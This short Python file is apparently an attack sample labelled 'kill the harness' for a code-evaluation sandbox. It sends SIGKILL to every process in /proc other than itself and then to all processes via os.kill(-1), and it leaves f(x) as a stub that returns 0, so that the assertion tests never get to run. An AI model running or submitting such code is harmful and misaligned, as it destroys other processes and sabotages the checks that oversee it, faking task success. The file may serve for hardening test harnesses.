# kill_every_visible_process
# class: kill the harness
# tests: assert

import os, signal
me = os.getpid()
for pid in [int(d) for d in os.listdir('/proc') if d.isdigit()]:
    if pid != me:
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
try:
    os.kill(-1, signal.SIGKILL)
except OSError as e:
    print(e)
def f(x):
    return 0
